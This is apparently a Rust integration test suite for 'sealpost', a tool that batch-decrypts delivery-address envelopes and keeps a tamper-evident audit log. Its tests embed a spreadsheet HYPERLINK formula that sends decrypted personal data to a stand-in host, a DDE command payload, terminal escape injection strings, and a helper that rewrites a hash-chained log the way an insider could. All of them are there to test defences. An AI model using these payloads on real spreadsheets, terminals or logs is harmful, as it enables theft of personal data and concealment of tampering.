    let mut runs: Vec<String> = Vec::new();
    for record in hub.read("audit.log").lines() {
        let v: Value = serde_json::from_str(record).unwrap();
        let op = v["operator"].as_str().unwrap().to_owned();
        if runs.last() != Some(&op) {
            runs.push(op);
        }
    }
    assert_eq!(runs, ["alice", "bob", "alice", "bob"]);
    assert_eq!(hub.read("a.ndjson").lines().count(), 2200);
    assert_eq!(hub.read("b.ndjson").lines().count(), 2200);
}

#[test]
fn help_lists_the_hub_options() {
    let hub = Hub::new("help");
    let out = hub.run(&["open", "--help"], &[], "");
    assert_eq!(out.code, 0);
    for flag in [
        "--batch",
        "--output",
        "--rejects",
        "--envelope-column",
        "--order-column",
        "--jobs",
        "--audit-log",
        "--operator",
        "--passphrase-file",
        "--allow-expired",
    ] {
        assert!(
            out.stdout.contains(flag),
            "{flag} missing from:\n{}",
            out.stdout
        );
    }
    let out = hub.run(&["--help"], &[], "");
    assert!(out
        .stdout
        .contains("7 a batch completed but rejected records"));
    let out = hub.run(&["open", "-i", "k", "--output", "x"], &[], "");
    assert_eq!(out.code, 2, "--output needs --batch");
}

#[test]
fn disk_full_leaves_a_log_that_verifies_and_no_output_in_place() {
    let hub = Hub::new("disk-full");
    five_records(&hub);
    let pk = hub.run(&["pubkey", "-i", "courier.key"], &[], "").stdout;
    let mut manifest = String::new();
    for n in 0..20 {
        let order = format!("FULL-{n}");
        let envelope = hub.seal(pk.trim(), &order);
        manifest.push_str(&format!(
            "{{\"orderRef\":\"{order}\",\"envelope\":\"{envelope}\"}}\n"
        ));
    }
    hub.write("manifest.ndjson", &manifest);
    let before = hub.read("audit.log");
    let head = hub.read("audit.log.head");
    // room for about 1 KB more: the batch's 20 records (one write of ~9 KB) do not fit. SIGXFSZ
    // is ignored, as a service manager may, so the write fails with EFBIG instead of killing.
    let blocks = before.len() / 1024 + 2;
    let out = Command::new("bash")
        .current_dir(&hub.dir)
        .arg("-c")
        .arg(format!(
            "trap '' XFSZ; ulimit -f {blocks}; exec \"$0\" \"$@\""
        ))
        .arg(env!("CARGO_BIN_EXE_sealpost"))
        .args([
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "opened.ndjson",
            "manifest.ndjson",
        ])
        .env("SEALPOST_AUDIT_LOG", "audit.log")
        .env("SEALPOST_OPERATOR", "alice")
        .env("SEALPOST_PASSPHRASE", PASS)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(5), "{stderr}");
    assert!(
        stderr.starts_with("sealpost: error: audit_unavailable: audit.log:"),
        "{stderr}"
    );
    assert!(
        stderr.contains("the disk is full (or a file size limit was reached)"),
        "{stderr}"
    );
    // whole records only: the log is as it was and still verifies; nothing was opened
    assert_eq!(hub.read("audit.log"), before);
    assert_eq!(hub.read("audit.log.head"), head);
    let verify = hub.run(&["audit", "verify"], &[], "");
    assert_eq!(verify.code, 0, "{}", verify.stderr);
    let left: Vec<String> = std::fs::read_dir(&hub.dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("opened") || n.ends_with(".partial"))
        .collect();
    assert!(left.is_empty(), "left behind: {left:?}");
    // with room again, the same batch runs and the log goes on
    let out = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "opened.ndjson",
            "manifest.ndjson",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let verify = hub.run(&["audit", "verify"], &[], "");
    assert!(
        verify
            .stdout
            .starts_with("audit.log: 25 records, hash chain intact"),
        "{}",
        verify.stdout
    );
}

#[test]
fn expired_key_openings_and_failed_unlocks_are_recorded() {
    let hub = Hub::new("expired-and-unlock");
    let pk = hub.keygen("courier.key", &[]);
    let envelope = hub.seal(&pk, "ORD-X");
    let out = hub.run(
        &["open", "-i", "courier.key"],
        &[("SEALPOST_PASSPHRASE", "not the passphrase at all")],
        &envelope,
    );
    assert_eq!(out.code, 6, "{}", out.stderr);
    let out = hub.run(&["audit", "show", "--json"], &[], "");
    let v: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(v["outcome"], "wrong_passphrase", "{}", out.stdout);
    assert_eq!(v["envelope"], "0".repeat(64));
    // an identity past its not-after date still opens (with a warning), recorded as such
    let old_pk = hub.keygen("old.key", &["--not-after", "2020-06-30"]);
    let envelope = hub.seal(&old_pk, "ORD-OLD");
    let out = hub.run(
        &["open", "-i", "old.key"],
        &[("SEALPOST_PASSPHRASE", PASS)],
        &envelope,
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let out = hub.run(&["audit", "show", "--order", "ORD-OLD", "--json"], &[], "");
    let v: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(v["outcome"], "opened_expired_key", "{}", out.stdout);
}

/// Rewrites the log with `edit` applied to record `n` and every hash, link and the head
/// recomputed: what an insider with write access to both files can do.
fn rewrite_consistently(hub: &Hub, n: usize, edit: impl Fn(&str) -> String) {
    use sha2::Digest;
    let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
    let mut prev = "0".repeat(64);
    let mut out = String::new();
    let mut seq = 0;
    for (i, line) in hub.read("audit.log").lines().enumerate() {
        let at = line.rfind(",\"hash\":\"").unwrap();
        let body = &line[..at];
        let body = if i + 1 == n {
            edit(body)
        } else {
            body.to_owned()
        };
        let p = body.rfind(",\"prev\":\"").unwrap();
        let body = format!("{},\"prev\":\"{prev}\"", &body[..p]);
        let hash = hex(&sha2::Sha256::digest(body.as_bytes()));
        out.push_str(&format!("{body},\"hash\":\"{hash}\"}}\n"));
        prev = hash;
        seq = i + 1;
    }
    hub.write("audit.log", &out);
    hub.write("audit.log.head", &format!("{seq} {prev}\n"));
}

#[test]
fn witnessed_checkpoints_catch_consistent_rewrites_and_rollbacks() {
    let hub = Hub::new("checkpoints");
    five_records(&hub);
    let pass = [("SEALPOST_PASSPHRASE", PASS)];
    let out = hub.run(
        &[
            "audit",
            "keygen",
            "-o",
            "audit.key",
            "--kdf-memory",
            "8192",
            "--kdf-passes",
            "1",
        ],
        &pass,
        "",
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let audit_pk = out.stdout.trim().to_owned();
    let checkpoint = |name: &str| {
        let out = hub.run(&["audit", "checkpoint", "-k", "audit.key"], &pass, "");
        assert_eq!(out.code, 0, "{}", out.stderr);
        assert!(
            out.stdout.starts_with("sealpost-checkpoint-1 log="),
            "{}",
            out.stdout
        );
        hub.write(name, &out.stdout);
    };
    checkpoint("cp1.txt");
    let (old_log, old_head) = (hub.read("audit.log"), hub.read("audit.log.head"));
    let pk = hub.run(&["pubkey", "-i", "courier.key"], &[], "").stdout;
    for order in ["ORD-6", "ORD-7"] {
        let envelope = hub.seal(pk.trim(), order);
        let out = hub.run(&["open", "-i", "courier.key"], &pass, &envelope);
        assert_eq!(out.code, 0, "{}", out.stderr);
    }
    checkpoint("cp2.txt");
    let verify = |extra: &[&str]| {
        let mut args = vec!["audit", "verify", "--audit-key", &audit_pk];
        args.extend(extra);
        hub.run(&args, &[], "")
    };
    let out = verify(&["--checkpoint", "cp1.txt", "--checkpoint", "cp2.txt"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.contains("7 records, hash chain intact")
            && out.stdout.ends_with("; extends all 2 checkpoints\n"),
        "{}",
        out.stdout
    );
    let out = hub.run(
        &[
            "audit",
            "witness",
            "--audit-key",
            &audit_pk,
            "cp1.txt",
            "cp2.txt",
        ],
        &[],
        "",
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.starts_with("2 checkpoints of log ") && out.stdout.contains(": 5 → 7 records"),
        "{}",
        out.stdout
    );

    let envelope = hub.seal(pk.trim(), "ORD-8");
    let guarded = [
        ("SEALPOST_PASSPHRASE", PASS),
        ("SEALPOST_AUDIT_CHECKPOINTS", "cp2.txt"),
    ];
    // 1. record 3 edited, the whole chain and head recomputed: invisible to the chain alone …
    let intact = hub.read("audit.log");
    let intact_head = hub.read("audit.log.head");
    rewrite_consistently(&hub, 3, |b| {
        b.replace("\"operator\":\"alice\"", "\"operator\":\"mallory\"")
    });
    assert_eq!(hub.run(&["audit", "verify"], &[], "").code, 0);
    // … but not to the witnessed checkpoints, and no opening proceeds under them
    let out = verify(&["--checkpoint", "cp1.txt", "--checkpoint", "cp2.txt"]);
    assert_eq!((out.code, out.stdout.as_str()), (8, ""), "{}", out.stderr);
    assert!(out.stderr.starts_with("sealpost: error: audit_log_tampered: audit.log: record 5 differs from the one the checkpoint of "), "{}", out.stderr);
    let out = hub.run(&["open", "-i", "courier.key"], &guarded, &envelope);
    assert_eq!((out.code, out.stdout.as_str()), (8, ""), "{}", out.stderr);
    // 2. rolled back to the older (log, head) pair, which verifies on its own
    hub.write("audit.log", &old_log);
    hub.write("audit.log.head", &old_head);
    assert_eq!(hub.run(&["audit", "verify"], &[], "").code, 0);
    let out = verify(&["--checkpoint", "cp2.txt"]);
    assert_eq!(out.code, 8, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("the log ends at record 5 but a checkpoint of "),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains(" witnessed 7 records: records were removed"),
        "{}",
        out.stderr
    );
    let out = hub.run(&["open", "-i", "courier.key"], &guarded, &envelope);
    assert_eq!((out.code, out.stdout.as_str()), (8, ""), "{}", out.stderr);
    // the intact log still extends both, and opens under them
    hub.write("audit.log", &intact);
    hub.write("audit.log.head", &intact_head);
    let out = hub.run(&["open", "-i", "courier.key"], &guarded, &envelope);
    assert_eq!(out.code, 0, "{}", out.stderr);

    // the platform's side: a sequence that goes backwards, an altered or foreign line
    let out = hub.run(
        &[
            "audit",
            "witness",
            "--audit-key",
            &audit_pk,
            "cp2.txt",
            "cp1.txt",
        ],
        &[],
        "",
    );
    assert_eq!(out.code, 8, "{}", out.stderr);
    assert!(
        out.stderr
            .starts_with("sealpost: error: checkpoint_sequence_invalid:"),
        "{}",
        out.stderr
    );
    let altered = hub.read("cp1.txt").replace(" seq=5 ", " seq=4 ");
    hub.write("altered.txt", &altered);
    let out = hub.run(
        &["audit", "witness", "--audit-key", &audit_pk, "altered.txt"],
        &[],
        "",
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr.contains("the signature does not verify"),
        "{}",
        out.stderr
    );
    let other = hub
        .run(
            &[
                "directory",
                "init",
                "-k",
                "other.key",
                "--draft",
                "d.json",
                "--kdf-memory",
                "8192",
                "--kdf-passes",
                "1",
            ],
            &pass,
            "",
        )
        .stdout;
    let out = hub.run(
        &["audit", "witness", "--audit-key", other.trim(), "cp1.txt"],
        &[],
        "",
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr.contains("signed with another audit key"),
        "{}",
        out.stderr
    );
}

#[test]
fn csv_output_is_inert_whatever_the_manifest_holds() {
    let hub = Hub::new("csv-inject");
    let pk = hub.keygen("courier.key", &[]);
    // a seller-chosen order reference that would send the decrypted name and phone away
    let evil = "=HYPERLINK(\"https://x.example/?\"&D2&E2,\"track\")";
    let (e1, e2) = (hub.seal(&pk, evil), hub.seal(&pk, "ORD-2"));
    let q = |c: &str| format!("\"{}\"", c.replace('"', "\"\""));
    let manifest = format!(
        "{},envelope,{},{}\n{},{e1},{},{}\n{},{e2},{},{}\n",
        q("orderRef"),
        q(" =HEADER()"),
        q("@tag"),
        q(evil),
        q(" =1+1"),
        q("@SUM(A1)"),
        q("ORD-2"),
        q("\"=cmd|' /C calc'!A0"),
        q("\t=2"),
    );
    hub.write("manifest.csv", &manifest);
    let out = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "opened.csv",
            "manifest.csv",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let text = hub.read("opened.csv");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            let significant = cell.trim_start_matches([' ', '"', '\'']);
            let active = cell.starts_with(['\t', '\r'])
                || significant.starts_with(['=', '@', '\t', '\r'])
                || (significant.starts_with(['+', '-'])
                    && !significant
                        .chars()
                        .all(|c| c.is_ascii_digit() || " +-().".contains(c)));
            assert!(
                !active || cell.starts_with('\''),
                "a live formula: {cell:?}"
            );
        }
    }
    assert_eq!(cells, 3 * (3 + sealpost::Address::csv_columns().len()));
    // every cell quoted; the guarded values keep their text after the `'`
    assert!(text.lines().all(|l| l.starts_with('"')), "{text}");
    assert!(text.contains(&q(&format!("'{evil}"))), "{text}");
    assert!(
        text.contains("\"' =HEADER()\"") && text.contains("\"'\"\"=cmd|' /C calc'!A0\""),
        "{text}"
    );
}

#[test]
fn audit_show_escapes_hostile_values_filters_and_summarises() {
    let hub = Hub::new("show-hostile");
    five_records(&hub);
    let pk = hub.run(&["pubkey", "-i", "courier.key"], &[], "").stdout;
    let envelope = hub.seal(pk.trim(), "ORD-9");
    // a manifest whose order value would clear the reviewer's screen and reorder the line
    let hostile = "\u{1b}[2J\u{1b}[1;1HORD-OK\u{202e}kcatta\u{7}";
    let line = serde_json::json!({ "orderRef": hostile, "envelope": envelope }).to_string();
    hub.write("m.ndjson", &format!("{line}\n"));
    let out = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "o.ndjson",
            "m.ndjson",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!(out.code, 7, "{}", out.stderr);
    let out = hub.run(&["audit", "show", "--outcome", "order_mismatch"], &[], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let rows: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(rows.len(), 2, "{}", out.stdout);
    assert!(
        rows[1].contains("\\u{1b}[2J\\u{1b}[1;1HORD-OK\\u{202e}kcatta\\u{7}"),
        "{}",
        rows[1]
    );
    assert!(!out.stdout.contains('\u{1b}') && !out.stdout.contains('\u{202e}'));
    // --json keeps the stored record (JSON-escaped by construction)
    let out = hub.run(
        &["audit", "show", "--outcome", "order_mismatch", "--json"],
        &[],
        "",
    );
    assert!(
        out.stdout.contains("\\u001b[2J") && !out.stdout.contains('\u{1b}'),
        "{}",
        out.stdout
    );
    // by key id and a per-operator summary
    let first = hub.run(&["audit", "show", "--order", "ORD-1", "--json"], &[], "");
    let v: Value = serde_json::from_str(first.stdout.trim()).unwrap();
    let id = v["keyId"].as_str().unwrap().to_owned();
    let out = hub.run(&["audit", "show", "--key-id", &id.to_uppercase()], &[], "");
    assert_eq!(
        out.stdout.lines().count(),
        6,
        "header and the 5 openings: {}",
        out.stdout
    );
    let out = hub.run(&["audit", "show", "--summary"], &[], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert!(
        lines[0].starts_with("OPERATOR") && lines[0].ends_with("REJECTED"),
        "{}",
        out.stdout
    );
    let total = |op: &str| {
        lines
            .iter()
            .find(|l| l.starts_with(op) && l.contains(" total "))
            .map(|l| l.split_whitespace().rev().take(2).collect::<Vec<_>>())
    };
    assert_eq!(total("alice"), Some(vec!["1", "4"]), "{}", out.stdout);
    assert_eq!(total("bob"), Some(vec!["0", "1"]), "{}", out.stdout);
}

#[test]
fn secret_files_of_another_owner_are_refused() {
    let hub = Hub::new("owner");
    let pk = hub.keygen("courier.key", &[]);
    let envelope = hub.seal(&pk, "ORD-1");
    // (as root, hand the file to `nobody`; elsewhere this cannot be set up)
    let chown = Command::new("chown")
        .arg("65534")
        .arg(hub.path("courier.key"))
        .status();
    if !chown.is_ok_and(|s| s.success()) {
        eprintln!("skipped: cannot change a file's owner here");
        return;
    }
    let out = hub.run(
        &["open", "-i", "courier.key"],
        &[("SEALPOST_PASSPHRASE", PASS)],
        &envelope,
    );
    assert_eq!((out.code, out.stdout.as_str()), (6, ""), "{}", out.stderr);
    assert!(
        out.stderr.starts_with("sealpost: error: insecure_owner: identity file courier.key belongs to user 65534, not to the user running sealpost"),
        "{}",
        out.stderr
    );
}

#[test]
fn sigterm_and_sigint_mid_batch_leave_no_decrypted_byte() {
    for signal in ["TERM", "INT"] {
        let hub = Hub::new(&format!("signal-{signal}"));
        let pk = hub.keygen("courier.key", &[]);
        let envelope = hub.seal(&pk, "ORD-1");
        let line = format!("{{\"orderRef\":\"ORD-1\",\"envelope\":\"{envelope}\"}}\n");
        let mut child = hub
            .cmd(
                &[
                    "open",
                    "--batch",
                    "-i",
                    "courier.key",
                    "-o",
                    "opened.ndjson",
                ],
                &[("SEALPOST_PASSPHRASE", PASS)],
            )
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        for _ in 0..1500 {
            stdin.write_all(line.as_bytes()).unwrap();
        }
        stdin.flush().unwrap();
        // wait until the first chunk's addresses are in the .partial file
        let partial_size = |hub: &Hub| -> u64 {
            hub.files()
                .iter()
                .filter(|f| f.ends_with(".partial"))
                .map(|f| std::fs::metadata(hub.path(f)).map(|m| m.len()).unwrap_or(0))
                .sum()
        };
        while partial_size(&hub) < 100_000 {
            assert!(child.try_wait().unwrap().is_none(), "batch ended early");
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let status = Command::new("kill")
            .arg(format!("-{signal}"))
            .arg(child.id().to_string())
            .status()
            .unwrap();
        assert!(status.success());
        let out = child.wait_with_output().unwrap();
        drop(stdin);
        assert_eq!(out.status.code(), Some(130), "{signal}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("interrupted: nothing written; 2 partial output file(s) removed"),
            "{stderr}"
        );
        let files = hub.files();
        assert!(
            !files
                .iter()
                .any(|f| f.ends_with(".partial") || f.starts_with("opened")),
            "{signal}: {files:?}"
        );
        assert_eq!(
            hub.run(&["audit", "verify"], &[], "").code,
            0,
            "{signal}: the log still verifies"
        );
    }
}

fn private_file(hub: &Hub, name: &str, text: &str) {
    hub.write(name, text);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(hub.path(name), std::fs::Permissions::from_mode(0o600)).unwrap();
    }
}

/// Peak resident memory of the children this test process waited for, in MiB.
fn children_peak_rss_mib() -> f64 {
    let usage =
        nix::sys::resource::getrusage(nix::sys::resource::UsageWho::RUSAGE_CHILDREN).unwrap();
    usage.max_rss() as f64 / 1024.0
}

#[test]
fn a_hundred_thousand_line_manifest_loses_no_line_in_flat_memory() {
    let hub = Hub::new("hundred-thousand");
    // key rotation under two passphrases, unattended: each identity its own passphrase file
    let old_pk = hub.run(
        &[
            "keygen",
            "-o",
            "old.key",
            "--kdf-memory",
            "8192",
            "--kdf-passes",
            "1",
        ],
        &[("SEALPOST_PASSPHRASE", "old hub passphrase, retired in May")],
        "",
    );
    let new_pk = hub.run(
        &[
            "keygen",
            "-o",
            "new.key",
            "--kdf-memory",
            "8192",
            "--kdf-passes",
            "1",
        ],
        &[("SEALPOST_PASSPHRASE", "new hub passphrase since June 2026")],
        "",
    );
    assert_eq!(
        (old_pk.code, new_pk.code),
        (0, 0),
        "{}{}",
        old_pk.stderr,
        new_pk.stderr
    );
    private_file(&hub, "old.pass", "old hub passphrase, retired in May\n");
    private_file(&hub, "new.pass", "new hub passphrase since June 2026\n");
    let mut envelopes = Vec::new();
    for n in 0..40 {
        let pk = if n % 20 == 0 {
            &old_pk.stdout
        } else {
            &new_pk.stdout
        };
        let order = format!("ORD-{n:02}");
        envelopes.push((order.clone(), hub.seal(pk.trim(), &order)));
    }
    // 100,000 lines after the header: 100 blank lines, a stray quote swallowing lines
    // 5010-5013, one 200 MB line, the rest valid (1 in 20 for the old key)
    const LINES: usize = 100_000;
    const HUGE_AT: usize = 99_990;
    let mut file =
        std::io::BufWriter::new(std::fs::File::create(hub.path("manifest.csv")).unwrap());
    writeln!(file, "orderRef,envelope,note").unwrap();
    let mut expect_rejected = std::collections::BTreeMap::new();
    for line in 2..=LINES + 1 {
        let (order, envelope) = &envelopes[line % envelopes.len()];
        if line % 1000 == 0 {
            writeln!(file).unwrap();
            expect_rejected.insert(line, "malformed_record");
        } else if line == 5010 {
            writeln!(file, "{order},{envelope},\"unclosed").unwrap();
            expect_rejected.insert(line, "malformed_record");
        } else if (5011..=5013).contains(&line) {
            writeln!(
                file,
                "{order},{envelope},{}",
                if line == 5013 { "closed\"" } else { "x" }
            )
            .unwrap();
            expect_rejected.insert(line, "malformed_record");
        } else if line == HUGE_AT {
            write!(file, "{order},").unwrap();
            let block = vec![b'A'; 1 << 20];
            for _ in 0..200 {
                file.write_all(&block).unwrap();
            }
            writeln!(file, ",huge").unwrap();
            expect_rejected.insert(line, "record_too_large");
        } else {
            writeln!(file, "{order},{envelope},n{line}").unwrap();
        }
    }
    file.flush().unwrap();
    drop(file);

    let out = hub.run(
        &[
            "open",
            "--batch",
            "-q",
            "-i",
            "old.key:old.pass",
            "-i",
            "new.key:new.pass",
            "-o",
            "opened.csv",
            "manifest.csv",
        ],
        &[],
        "",
    );
    let peak = children_peak_rss_mib();
    println!("100,000-line manifest with a 200 MB line: peak RSS of the batch {peak:.1} MiB");
    assert_eq!(out.code, 7, "{}", out.stderr);
    let rejected = expect_rejected.len();
    assert_eq!(
        out.stderr.lines().next().unwrap(),
        format!(
            "sealpost: read {LINES} records from manifest.csv: {} opened, {rejected} rejected",
            LINES - rejected
        )
    );
    // every rejected line under its own number, with its order where the line holds one
    let rejects: Vec<Value> = hub
        .read("opened.csv.rejects.ndjson")
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let got: std::collections::BTreeMap<usize, &str> = rejects
        .iter()
        .map(|r| {
            (
                r["line"].as_u64().unwrap() as usize,
                r["code"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(got, expect_rejected);
    let swallowed: Vec<&Value> = rejects
        .iter()
        .filter(|r| (5010..=5013).contains(&r["line"].as_u64().unwrap()))
        .collect();
    assert!(
        swallowed
            .iter()
            .all(|r| r["message"].as_str().unwrap().contains("lines 5010-5013")),
        "{swallowed:?}"
    );
    assert_eq!(
        swallowed[1]["order"],
        envelopes[5011 % 40].0.as_str(),
        "{swallowed:?}"
    );
    // opened lines: all of the rest, both keys
    let opened = hub.read("opened.csv").lines().count() - 1;
    assert_eq!(opened, LINES - rejected);
    // flat: the 200 MB line was never held in memory
    assert!(peak < 150.0, "peak RSS {peak:.1} MiB: not flat");
    // the audit trail has every line too, and verifies
    let verify = hub.run(&["audit", "verify"], &[], "");
    assert!(
        verify
            .stdout
            .starts_with(&format!("audit.log: {LINES} records, hash chain intact")),
        "{}",
        verify.stdout
    );
}

#[test]
fn a_field_missing_from_every_line_is_one_error_before_anything_is_opened() {
    let hub = Hub::new("missing-field");
    let pk = hub.keygen("courier.key", &[]);
    let envelope = hub.seal(&pk, "ORD-1");
    let manifest: String = (0..5)
        .map(|_| format!("{{\"order\":\"ORD-1\",\"envelope\":\"{envelope}\"}}\n"))
        .collect();
    hub.write("m.ndjson", &manifest);
    let out = hub.run(
        &[
            "open",
            "--batch",
            "-i",
            "courier.key",
            "-o",
            "o.ndjson",
            "m.ndjson",
        ],
        &[("SEALPOST_PASSPHRASE", PASS)],
        "",
    );
    assert_eq!((out.code, out.stdout.as_str()), (1, ""), "{}", out.stderr);
    assert!(out.stderr.starts_with("sealpost: error: missing_field: m.ndjson: none of the first 5 records has a \"orderRef\" field; nothing was opened"), "{}", out.stderr);
    assert!(!hub.path("o.ndjson").exists() && !hub.path("o.ndjson.rejects.ndjson").exists());
    let verify = hub.run(&["audit", "verify"], &[], "");
    assert!(
        verify.stdout.starts_with("audit.log: 0 records"),
        "nothing audited: {}",
        verify.stdout
    );
}
